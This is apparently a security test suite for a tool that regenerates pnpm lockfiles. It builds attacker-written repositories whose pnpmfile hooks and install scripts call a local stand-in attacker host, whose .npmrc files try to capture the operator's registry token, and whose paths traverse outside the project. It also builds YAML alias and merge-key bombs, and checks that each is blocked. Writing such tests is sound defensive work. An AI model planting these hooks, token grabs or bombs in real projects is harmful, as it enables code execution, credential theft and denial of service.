// A hostile repository against the pnpm child (real pnpm on Verdaccio): its .pnpmfile.cjs, .npmrc, pnpm-workspace.yaml and pnpm-lock.yaml as an attacker writes them.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pnpmArtifacts } from '../../src/artifacts/pnpm/index.js';
import { pnpmLockfile } from '../../src/managers/pnpm/index.js';
import { startLoopbackServer, type LoopbackServer } from '../http/loopback-server.js';
import { contextFor, pnpm, pnpmUpdate } from '../support/pnpm-project.js';
import { tempCheckout, tempDir } from '../support/temp-dir.js';
import { publish, startVerdaccio, type VerdaccioInstance } from '../support/verdaccio.js';

let verdaccio: VerdaccioInstance;
/** Stands in for the attacker's host and for an internal one; each must hear nothing it should not. */
let attacker: LoopbackServer;
let lock: string;

const json = (value: unknown) => JSON.stringify(value, null, 2) + '\n';
const app = (extra: Record<string, unknown> = {}) => json({ name: 'shop', version: '1.0.0', dependencies: { 'lib-a': '^1.0.0' }, ...extra });
const repoNpmrc = () => `registry=${verdaccio.url}/\n`;
/** The operator's FRESHEN_NPMRC: a token for Verdaccio only. */
const appNpmrc = () => `//${verdaccio.host}/:_authToken=${verdaccio.token}\n`;
const update = () => pnpmUpdate('package.json', 'lib-a', '1.0.0', '1.1.0', {});
const tokenSeenBy = (s: LoopbackServer) => s.requests.filter((r) => JSON.stringify(r.headers).includes(verdaccio.token));
const lockedLibA = (text: string) => pnpmLockfile.lockedVersion(text, 'pnpm-lock.yaml', 'package.json', 'lib-a', '^1.0.0');

function checkout(files: Record<string, string>): string {
  return tempCheckout('freshen-pnpm-hostile-', { 'package.json': app(), 'pnpm-lock.yaml': lock, '.npmrc': repoNpmrc(), ...files });
}

function regenerate(dir: string, insecure = [verdaccio.host], settings: Record<string, string> = { FRESHEN_NPMRC: appNpmrc() }) {
  return pnpmArtifacts.regenerate('pnpm-lock.yaml', [update()], new Map(), contextFor(dir, settings, insecure));
}

beforeAll(async () => {
  verdaccio = await startVerdaccio();
  attacker = await startLoopbackServer((_req, res) => void res.writeHead(404).end());
  await publish(verdaccio, 'lib-a', '1.0.0');
  const dir = tempCheckout('freshen-pnpm-hostile-lock-', { 'package.json': app(), '.npmrc': repoNpmrc() });
  pnpm(dir, ['install', '--lockfile-only', '--ignore-scripts']);
  lock = readFileSync(join(dir, 'pnpm-lock.yaml'), 'utf8');
  await publish(verdaccio, 'lib-a', '1.1.0');
}, 60_000);
afterAll(async () => {
  await verdaccio?.stop();
  await attacker?.close();
});

describe('code from the repository never runs', () => {
  it('.pnpmfile.cjs, pnpmfile settings, configDependencies and install scripts: none runs, the update still lands', async () => {
    const markers = tempDir('freshen-pnpm-markers-');
    const evil = (name: string) => `require('node:fs').writeFileSync(${JSON.stringify(join(markers, name))}, 'ran');\nrequire('node:http').get(${JSON.stringify(`${attacker.url}/${name}`)}).on('error', () => {});\nmodule.exports = { hooks: { readPackage: (p) => p } };\n`;
    const globalHook = join(markers, 'global.cjs');
    writeFileSync(globalHook, evil('global-pnpmfile'));
    const dir = checkout({
      '.pnpmfile.cjs': evil('pnpmfile'),
      'hooks/other.cjs': evil('named-pnpmfile'),
      'package.json': app({ scripts: { preinstall: `node -e "require('fs').writeFileSync('${join(markers, 'script')}', 'ran')"` }, pnpm: { onlyBuiltDependencies: ['lib-a'] } }),
      '.npmrc': `${repoNpmrc()}pnpmfile=hooks/other.cjs\nglobal-pnpmfile=${globalHook}\nside-effects-cache=true\ngit-checks=true\nhttps-proxy=${attacker.url}\nproxy=${attacker.url}\n`,
      'pnpm-workspace.yaml': `pnpmfile: hooks/other.cjs\nglobalPnpmfile: ${globalHook}\nconfigDependencies:\n  evil: "1.0.0+sha512-AAAA"\nonlyBuiltDependencies: [lib-a]\nhttpsProxy: ${attacker.url}\n`,
    });
    const insecure = [verdaccio.host, attacker.host];
    const outcome = await regenerate(dir, insecure);
    expect(outcome.error).toBeUndefined();
    expect(lockedLibA(outcome.files!.get('pnpm-lock.yaml')!)).toBe('1.1.0');
    for (const name of ['pnpmfile', 'named-pnpmfile', 'global-pnpmfile', 'script']) expect(existsSync(join(markers, name))).toBe(false);
    expect(attacker.requests.filter((r) => /pnpmfile|lib-a/.test(r.path))).toEqual([]);
  }, 120_000);
});

describe('the address policy holds inside pnpm', () => {
  it('a registry at a private address not listed as insecure: refused, nothing written, the host hears nothing', async () => {
    // `localhost` is loopback but not listed: only Verdaccio's own host is.
    const internal = `localhost:${attacker.port}`;
    const before = attacker.connections;
    const dir = checkout({ '.npmrc': `registry=http://${internal}/\n` });
    const outcome = await regenerate(dir);
    expect(outcome.files).toBeUndefined();
    expect(outcome.error).toMatchObject({ file: 'pnpm-lock.yaml', message: expect.stringMatching(/refusing to connect to localhost|EFRESHENBLOCKED/) });
    expect(attacker.connections).toBe(before);
  }, 120_000);

  it('a tarball URL dependency on a private host: refused before pnpm runs', async () => {
    const before = attacker.connections;
    const dir = checkout({ 'package.json': app({ devDependencies: { internal: `http://localhost:${attacker.port}/internal.tgz` } }) });
    const outcome = await regenerate(dir);
    expect(outcome.files).toBeUndefined();
    expect(outcome.error).toMatchObject({ file: 'package.json', depName: 'internal', message: expect.stringContaining('localhost') });
    expect(attacker.connections).toBe(before);
  }, 120_000);

  it('git dependencies and paths outside the project are refused before pnpm runs', async () => {
    for (const spec of [`git+http://localhost:${attacker.port}/x.git`, 'github:acme/tools', 'file:../../etc', 'link:/etc']) {
      const dir = checkout({ 'package.json': app({ devDependencies: { x: spec } }) });
      const outcome = await regenerate(dir);
      expect(outcome).toMatchObject({ error: { file: 'package.json', depName: 'x' } });
      expect(outcome.files).toBeUndefined();
    }
    const overrides = checkout({ 'pnpm-workspace.yaml': "packages: ['.']\noverrides:\n  lib-a: file:../../etc\n" });
    const withWorkspace = pnpmUpdate('package.json', 'lib-a', '1.0.0', '1.1.0', { configFiles: ['.npmrc', 'pnpm-workspace.yaml'] });
    expect((await pnpmArtifacts.regenerate('pnpm-lock.yaml', [withWorkspace], new Map(), contextFor(overrides, { FRESHEN_NPMRC: appNpmrc() }, [verdaccio.host]))).error)
      .toMatchObject({ file: 'pnpm-workspace.yaml', message: expect.stringContaining('overrides') });
    // Members outside the project: pnpm would read the package.json files of whatever lies beside the temporary copy.
    for (const pattern of ['../*', '../../**', '/tmp/*', 'apps/../../x']) {
      const outside = checkout({ 'pnpm-workspace.yaml': `packages:\n  - '${pattern}'\n` });
      const outcome = await pnpmArtifacts.regenerate('pnpm-lock.yaml', [withWorkspace], new Map(), contextFor(outside, { FRESHEN_NPMRC: appNpmrc() }, [verdaccio.host]));
      expect(outcome.error, pattern).toMatchObject({ file: 'pnpm-workspace.yaml', message: expect.stringContaining('points outside the project') });
    }
  }, 120_000);
});

describe('package.json fields pnpm follows besides the dependency maps', () => {
  it('resolutions, pnpm.packageExtensions and pnpm.patchedDependencies leaving the project are refused before pnpm runs', async () => {
    const outside = tempDir('freshen-pnpm-outside-');
    writeFileSync(join(outside, 'package.json'), json({ name: 'lib-a', version: '6.6.6' }));
    writeFileSync(join(outside, 'secret.patch'), 'not a patch\n');
    const fields: Record<string, unknown>[] = [
      { resolutions: { 'lib-a': `link:${outside}` } },
      { resolutions: { 'lib-a': 'file:../../../etc' } },
      { pnpm: { packageExtensions: { 'lib-a': { dependencies: { x: `link:${outside}` } } } } },
      { pnpm: { packageExtensions: { 'lib-a@1': { optionalDependencies: { x: 'github:acme/tools' } } } } },
      { pnpm: { patchedDependencies: { 'lib-a@1.1.0': join(outside, 'secret.patch') } } },
      { pnpm: { patchedDependencies: { 'lib-a': '../../secret.patch' } } },
      // pnpm's local resolver takes `workspace:./…` and any spec holding a slash as a folder.
      { devDependencies: { x: `workspace:../../${basename(outside)}` } },
      { devDependencies: { x: `workspace:./../../${basename(outside)}` } },
      { devDependencies: { x: `sub/../../../${basename(outside)}` } },
    ];
    for (const field of fields) {
      const dir = checkout({ 'package.json': app(field) });
      const outcome = await regenerate(dir);
      expect(outcome.files, JSON.stringify(field)).toBeUndefined();
      expect(outcome.error, JSON.stringify(field)).toMatchObject({ file: 'package.json', message: expect.stringMatching(/outside the project|git dependency/) });
    }
  }, 120_000);
});

describe("the operator's token goes only to its own host", () => {
  it('a repository naming another registry for the package is never sent the token', async () => {
    const dir = checkout({ '.npmrc': `registry=${attacker.url}/\n@private:registry=${attacker.url}/\n` });
    const outcome = await regenerate(dir, [verdaccio.host, attacker.host]);
    expect(attacker.requests.some((r) => r.path.includes('lib-a'))).toBe(true);
    expect(tokenSeenBy(attacker)).toEqual([]);
    expect(outcome.files).toBeUndefined();
    expect(JSON.stringify(outcome)).not.toContain(verdaccio.token);
  }, 120_000);

  it('a repository asking for ${FRESHEN_NPMRC} as its token gets nothing of it', async () => {
    const dir = checkout({ '.npmrc': `registry=${attacker.url}/\n//${attacker.host}/:_authToken=\${FRESHEN_NPMRC}\n` });
    const outcome = await regenerate(dir, [verdaccio.host, attacker.host]);
    expect(attacker.requests.some((r) => r.path.includes('lib-a'))).toBe(true);
    expect(tokenSeenBy(attacker)).toEqual([]);
    expect(outcome.files).toBeUndefined();
    expect(JSON.stringify(outcome)).not.toContain(verdaccio.token);
  }, 120_000);

  it('credentials are not sent over plain HTTP to a host not listed as insecure', async () => {
    const dir = checkout({ '.npmrc': 'registry=http://registry.private.test/\n' });
    const outcome = await regenerate(dir, [], { FRESHEN_NPMRC: '//registry.private.test/:_authToken=operator-secret-token\n' });
    expect(outcome.error).toMatchObject({ file: '.npmrc', message: expect.stringMatching(/^registry: refusing http:\/\/registry\.private\.test/) });
  });
});

describe('a pathological pnpm-lock.yaml stays bounded', () => {
  // Each level doubles what a naive reader expands: 2^40 nodes from a few hundred bytes.
  const laughs = (levels: number) => {
    let text = "lockfileVersion: '9.0'\nbomb:\n  l0: &l0 [x, x]\n";
    for (let i = 1; i < levels; i++) text += `  l${i}: &l${i} [*l${i - 1}, *l${i - 1}]\n`;
    return text;
  };
  const merges = (levels: number) => {
    let text = "lockfileVersion: '9.0'\nimporters:\n  m0: &m0 {dependencies: {lib-a: {specifier: ^1.0.0, version: 1.0.0}}}\n";
    for (let i = 1; i < levels; i++) text += `  m${i}: &m${i}\n    <<: [*m${i - 1}, *m${i - 1}, *m${i - 1}]\n`;
    return `${text}  .:\n    <<: [*m${levels - 1}, *m${levels - 1}]\n`;
  };

  it.each([
    ['a billion laughs beside the importers', `${laughs(40)}importers:\n  .:\n    dependencies:\n      lib-a: {specifier: ^1.0.0, version: 1.0.0}\n`, '1.0.0'],
    ['a billion laughs inside the importers', laughs(40).replace('bomb:', 'importers:'), undefined],
    ['merge keys of merge keys', merges(12), '1.0.0'],
    ['merge keys past the depth a reader follows', merges(40), undefined],
  ])('%s: read in well under a second, as pnpm-lock.yaml; pnpm is never run on it', async (_name, text, expected) => {
    const started = performance.now();
    expect(pnpmLockfile.lockedVersion(text, 'pnpm-lock.yaml', 'package.json', 'lib-a', '^1.0.0')).toBe(expected);
    expect(performance.now() - started).toBeLessThan(2_000);
    const before = attacker.connections;
    const dir = checkout({ 'pnpm-lock.yaml': text });
    const outcome = await regenerate(dir);
    expect(outcome.error).toMatchObject({ file: 'pnpm-lock.yaml', line: 3, message: expect.stringContaining('anchor or alias') });
    expect(attacker.connections).toBe(before);
  });

  it('a lockfile of many megabytes: the packages it lists are not composed, reading costs its size', () => {
    const entries = Array.from({ length: 60_000 }, (_, i) => `  pkg-${i}@1.0.0:\n    resolution: {integrity: sha512-${'A'.repeat(86)}==}\n    engines: {node: '>=18'}\n`).join('\n');
    const big = `${lock}\n${entries}`.replace('\npackages:\n', '\npackages:\n');
    expect(big.length).toBeGreaterThan(8_000_000);
    const started = performance.now();
    expect(pnpmLockfile.lockedVersion(big, 'pnpm-lock.yaml', 'package.json', 'lib-a', '^1.0.0')).toBe('1.0.0');
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('an alias bomb in pnpm-workspace.yaml is a located error, pnpm is not run', async () => {
    const dir = checkout({ 'pnpm-workspace.yaml': `catalog:\n  lib-a: ^1.0.0\nbomb:\n${laughs(30).split('\n').slice(2).join('\n')}overrides: *l29\n` });
    const outcome = await pnpmArtifacts.regenerate('pnpm-lock.yaml', [pnpmUpdate('package.json', 'lib-a', '1.0.0', '1.1.0', { configFiles: ['.npmrc', 'pnpm-workspace.yaml'] })], new Map(), contextFor(dir, { FRESHEN_NPMRC: appNpmrc() }, [verdaccio.host]));
    expect(outcome.files).toBeUndefined();
    expect(outcome.error).toMatchObject({ file: 'pnpm-workspace.yaml' });
  });
});
